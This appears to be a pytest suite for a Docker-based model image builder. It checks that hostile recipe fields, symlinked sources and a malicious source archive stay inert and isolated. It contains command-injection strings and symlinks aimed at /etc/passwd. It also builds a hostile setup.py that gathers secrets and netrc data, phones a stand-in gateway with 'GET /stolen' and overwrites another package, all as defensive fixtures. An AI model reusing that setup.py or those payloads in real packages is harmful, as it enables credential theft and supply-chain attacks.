"""Hostile recipes and sources, built: nothing of them runs, reads beyond its sources, or reaches what it need not."""

from __future__ import annotations

import hashlib
import json
import re
import socket
import time
from pathlib import Path

import pytest
from support.files import model, shipped, texts, toy
from support.locks import with_locks
from support.packages import index, page, sdist

from builder.engine.host import Engine
from builder.engine.process import SystemRunner
from builder.errors import RecipeError
from builder.plan.make import make_plan
from builder.recipe.load import load
from builder.render.dockerfile import render_dockerfile
from builder.source.catalog import read_catalog

pytestmark = pytest.mark.docker
BASE = "docker-image://localhost/drivebuild/base:debian-12"
EVIL = (
    r"""$(touch /pwned) `touch /pwned` ${HOME} '; touch /pwned; ' "; touch /pwned; " && touch /pwned """
    r"""# {{ 7*7 }} {% raw %} <<EOF ../ %s \n \\"""
)
FIELDS = ("title", "summary", "licence", "note")


def hostile(**changes: str) -> dict[str, str]:
    word = json.dumps(EVIL)
    edit = f"{{do: edit, file: Tree/file, find: {word}, replace: {json.dumps(EVIL * 2)}, note: {word}}}"
    fields = dict.fromkeys(FIELDS, word)
    fields["tree"] = f"{{source: toy-source, directory: Tree, steps: [{edit}]}}"
    fields["environment"] = f"{{EVIL: {word}}}"
    fields["jobs"] = f"[{{name: train, title: {word}, command: [{word}], note: {word}}}]"
    fields["requirements"] = f"{{packages: [einops], conflicts: {{plat: [{word}]}}}}"
    return toy(**{**fields, **changes})


def test_what_is_rendered_is_inert(engine: Engine, tag: str, templates: dict[str, str], tmp_path: Path) -> None:
    plan = make_plan(with_locks(load(texts(hostile()), {})), "toy")
    folder, source, context = tmp_path / "d", tmp_path / "source", tmp_path / "context"
    for path in (folder, source, context):
        path.mkdir()
    (source / "file").write_text(f"before {EVIL} after {time.time()}")
    (folder / "Dockerfile").write_text(render_dockerfile(plan, templates))
    # The stages that take minutes are not what is asked here: the real text of `tree` and `image` stands on the base.
    replaced = {"env": BASE, "base": BASE, "build-base": BASE, "src-toy-source": str(source)}
    contexts = tuple(word for name, place in replaced.items() for word in ("--build-context", f"{name}={place}"))
    command = ("docker", "buildx", "build", "--load", "--tag", tag, "--file", str(folder / "Dockerfile"), *contexts)
    result = SystemRunner().run((*command, str(context)))
    assert result.code == 0, result.complaint
    image = engine.image(tag)
    assert image is not None
    assert image.config["Labels"]["org.opencontainers.image.title"] == EVIL
    assert image.config["Labels"]["org.opencontainers.image.licenses"] == EVIL
    assert f"EVIL={EVIL}" in image.config["Env"]
    shown = SystemRunner().run(("docker", "run", "--rm", tag, "cat", "/workspace/toy/Tree/file"))
    assert shown.text.startswith(f"before {EVIL * 2} after ")
    assert SystemRunner().run(("docker", "run", "--rm", tag, "test", "!", "-e", "/pwned")).code == 0


@pytest.mark.parametrize("value", ["a\nRUN touch /pwned", "a\rb", "a\u2028b", "a\x00b", "a\x1b[31m"])
@pytest.mark.parametrize("field", FIELDS)
def test_what_could_leave_its_line_is_refused(field: str, value: str) -> None:
    with pytest.raises(RecipeError):
        load(texts(hostile(**{field: json.dumps(value)})), {})


def test_a_step_without_a_network_reaches_nothing(engine: Engine) -> None:
    """The same step twice, with a server on this machine: what has a network reaches it, what has none does not."""
    asks = (
        "python3 -c \"import socket; s = socket.create_connection(('GATEWAY', PORT), 5); s.sendall(b'hello'); "
        "print('reached')\" 2>&1 || echo 'not reached'"
    )
    gateway = _gateway(engine)
    with socket.create_server((gateway, 0)) as server:
        asked = asks.replace("GATEWAY", gateway).replace("PORT", str(server.getsockname()[1]))
        said = {}
        for flag in ("", "--network=none "):
            text = f"FROM localhost/drivebuild/base:debian-12\nRUN {flag}{asked} # {time.time()}\n"
            words = ("docker", "buildx", "build", "--no-cache", "--progress=plain", "--output", "type=cacheonly", "-")
            done = SystemRunner().run(words, stdin=text.encode())
            assert done.code == 0, done.complaint
            (said[flag],) = re.findall(r"^#\d+ [0-9.]+ ((?:not )?reached)$", done.complaint, re.MULTILINE)
    assert said == {"": "reached", "--network=none ": "not reached"}


def _gateway(engine: Engine) -> str:
    """Return the address that this machine has in the network of containers."""
    network = engine.client.inspect_network("bridge")
    return str(network["IPAM"]["Config"][0]["Gateway"])


def test_links_of_a_source_bring_nothing_of_this_machine(
    engine: Engine, tag: str, templates: dict[str, str], tmp_path: Path
) -> None:
    """`--source` with links to a file beside it: they stay links, and what they lead to stays where it is."""
    private = tmp_path / "private"
    private.write_text("of this machine")
    source, folder = tmp_path / "source", tmp_path / "d"
    (source / "below").mkdir(parents=True)
    folder.mkdir()
    (source / "file").write_text(f"{EVIL} {time.time()}")
    for name, target in (("absolute", private), ("below/relative", "../../private"), ("below/root", "/")):
        (source / name).symlink_to(target)
    plan = make_plan(with_locks(load(texts(toy(tree="{source: toy-source, directory: Tree}")), {})), "toy")
    (folder / "Dockerfile").write_text(render_dockerfile(plan, templates))
    replaced = {"env": BASE, "base": BASE, "build-base": BASE, "src-toy-source": str(source)}
    contexts = tuple(word for name, place in replaced.items() for word in ("--build-context", f"{name}={place}"))
    (tmp_path / "context").mkdir()
    command = ("docker", "buildx", "build", "--load", "--tag", tag, "--file", str(folder / "Dockerfile"), *contexts)
    result = SystemRunner().run((*command, str(tmp_path / "context")))
    assert result.code == 0, result.complaint
    root = "/workspace/toy/Tree"
    found = SystemRunner().run(("docker", "run", "--rm", tag, "find", root, "-type", "l", "-printf", "%P %l\n")).text
    assert dict(line.split() for line in found.splitlines()) == {
        "absolute": str(private),
        "below/relative": "../../private",
        "below/root": "/",
    }
    everything = SystemRunner().run(("docker", "run", "--rm", tag, "grep", "-r", "of this machine", root))
    assert everything.text == ""


@pytest.mark.parametrize(
    ("step", "said"),
    [
        ("{do: edit, file: Tree/out/passwd, find: root, replace: x}", "leads out of the tree"),
        ("{do: copy, source: toy-source, path: file, to: Tree/out/evil}", "leads out of the tree"),
        ("{do: remove, path: Tree/out/passwd}", "leads out of the tree"),
        ("{do: copy, source: toy-source, path: out, to: Tree/evil}", "a link"),
        ("{do: copy, source: toy-source, path: out/passwd, to: Tree/evil}", "leads through a link, to /etc/passwd"),
    ],
)
def test_a_step_through_a_link_out_of_the_tree_stops_the_build(
    engine: Engine, templates: dict[str, str], tmp_path: Path, step: str, said: str
) -> None:
    source, folder = tmp_path / "source", tmp_path / "d"
    source.mkdir()
    folder.mkdir()
    (source / "out").symlink_to("/etc")
    (source / "file").write_text(str(time.time()))
    plan = make_plan(
        with_locks(load(texts(toy(tree=f"{{source: toy-source, directory: Tree, steps: [{step}]}}")), {})), "toy"
    )
    (folder / "Dockerfile").write_text(render_dockerfile(plan, templates))
    replaced = {"base": BASE, "build-base": BASE, "src-toy-source": str(source)}
    contexts = tuple(word for name, place in replaced.items() for word in ("--build-context", f"{name}={place}"))
    words = ("docker", "buildx", "build", "--target", "tree", "--output", "type=cacheonly", *contexts)
    done = SystemRunner().run((*words, "--file", str(folder / "Dockerfile"), str(folder)))
    assert done.code != 0
    assert said in done.complaint


# --- a source archive of the package index ---------------------------------------------------------

OTHER = "/opt/venv/lib/python3/other/__init__.py"
README = f"{{commit: {'d' * 40}, source: toy-source, path: README.md}}"
SETUP = f"""
import glob, json, os, socket, sys
from setuptools import setup

found = {{"when": "TIME", "netrc": os.environ.get("NETRC", ""), "secrets": glob.glob("/run/secrets/*")}}
found["packages"] = glob.glob("/packages/*") + glob.glob("/sdist*") + glob.glob("/root/.cache/uv/*")
found["archives"] = sorted(os.listdir("/archive"))
found["settings"] = sorted(name for name in os.environ if name.startswith(("PIP_IND", "UV_", "HTTP", "SSL_")))
try:
    socket.create_connection(("GATEWAY", PORT), 5).sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
    found["network"] = "reached"
except OSError as error:
    found["network"] = "not reached"
with open("{OTHER}", "w") as file:
    file.write("evil = True")
os.makedirs("/wheels", exist_ok=True)
open("/wheels/numpy-99-py3-none-any.whl", "w").close()
try:
    open("/archive/evil-1.0.tar.gz", "w").close()
    found["archive"] = "written"
except OSError:
    found["archive"] = "not written"
os.makedirs("evil", exist_ok=True)
with open("evil/__init__.py", "w") as file:
    file.write("found = " + repr(json.dumps(found)))
setup(name="evil", version="1.0", packages=["evil"])
"""
JUDGE = f"""
FROM beside-torch AS judge
RUN --network=none --mount=type=bind,from=wheel-evil-1.0,source=/wheels,target=/wheels \\
    echo "OTHER $(cat {OTHER})"; \\
    echo "FOUND $(PYTHONPATH=$(ls /wheels/evil-*.whl) python3 -c 'import evil; print(evil.found)')"
"""
BESIDE = f"""FROM build-base AS beside-torch
RUN mkdir -p /opt/venv/bin "$(dirname {OTHER})"; \\
    ln -s /usr/bin/python3 /opt/venv/bin/python; \\
    echo 'good = True' > {OTHER}

"""


@pytest.mark.parametrize("held", [True, False], ids=["as rendered", "with a network, to see that the test can tell"])
def test_the_setup_of_a_source_archive_gets_nothing_but_itself(
    engine: Engine, templates: dict[str, str], tmp_path: Path, held: bool
) -> None:
    """Fetched from an index that is given credentials, then built: it sees not them, nor a network, nor others."""
    gateway, files = _gateway(engine), dict[str, bytes]()
    with index(gateway, files) as (port, asked):
        setup = SETUP.replace("GATEWAY", gateway).replace("PORT", str(port)).replace("TIME", str(time.time()))
        archive = sdist("evil", "1.0", setup_py=setup)
        digest = hashlib.sha256(archive).hexdigest()
        files["/simple/evil/"] = page({"evil-1.0.tar.gz": archive})
        files["/f/evil-1.0.tar.gz"] = archive
        text = _with_evil(templates, digest)
        if not held:
            head, stage = text.split(" AS wheel-evil-1.0\n")
            text = f"{head} AS wheel-evil-1.0\n{stage.replace('RUN --network=none ', 'RUN ', 1)}"
        said = _built(tmp_path, text, gateway, port)
    (found,) = (json.loads(line) for line in re.findall(r"^#\d+ [0-9.]+ FOUND (.*)$", said, re.MULTILINE))
    assert found.pop("when")
    assert found.pop("network") == ("not reached" if held else "reached")
    assert found == {
        "netrc": "",
        "secrets": [],
        "packages": [],
        "archives": ["evil-1.0.tar.gz"],
        "archive": "not written",
        "settings": [],
    }
    assert re.findall(r"^#\d+ [0-9.]+ OTHER (.*)$", said, re.MULTILINE) == ["good = True"]
    # Those of the site, from netrc, for what is fetched; not a word from the archive.
    assert {path for path, _ in asked} - {"/stolen"} == {"/simple/evil/", "/f/evil-1.0.tar.gz"}
    assert all(word.startswith("Basic ") for path, word in asked if path != "/stolen")
    assert ("/stolen" in {path for path, _ in asked}) == (not held)


def _with_evil(templates: dict[str, str], digest: str) -> str:
    """Return the Dockerfile of a model that locks the archive; the compilers stand there in place of the framework."""
    recipe = model(platform="debian-12-cpu", components="[]", readme=README)
    lock = f"evil==1.0 --hash=sha256:{digest} # evil-1.0.tar.gz\n"
    evil = {f"debian-12-cpu/toy.{architecture}.txt": lock for architecture in ("aarch64", "x86_64")}
    files = texts({**shipped(), "models/toy.yaml": recipe})
    plan = make_plan(load(files, {**read_catalog().locks, **evil}), "toy")
    before, _, rest = render_dockerfile(plan, templates).partition("FROM torch AS beside-torch\n")
    return before + BESIDE + rest[rest.index("\nFROM ") :] + JUDGE


def _built(tmp_path: Path, text: str, gateway: str, port: int) -> str:
    for name in ("d", "context", "python/opt/python"):
        (tmp_path / name).mkdir(parents=True)
    (tmp_path / "d/Dockerfile").write_text(text)
    (tmp_path / "network").write_text(f"export PIP_INDEX_URL=http://{gateway}:{port}/simple\n")
    (tmp_path / "netrc").write_text(f"machine {gateway} login me password hunter2\n")
    secrets = (word for name in ("network", "netrc") for word in ("--secret", f"id={name},src={tmp_path / name}"))
    words = (
        "docker",
        "buildx",
        "build",
        "--progress=plain",
        "--target",
        "judge",
        "--output",
        "type=cacheonly",
        *secrets,
    )
    contexts = ("--build-context", f"python-stock={tmp_path / 'python'}")
    done = SystemRunner().run((*words, *contexts, "--file", str(tmp_path / "d/Dockerfile"), str(tmp_path / "context")))
    assert done.code == 0, done.complaint
    return done.complaint
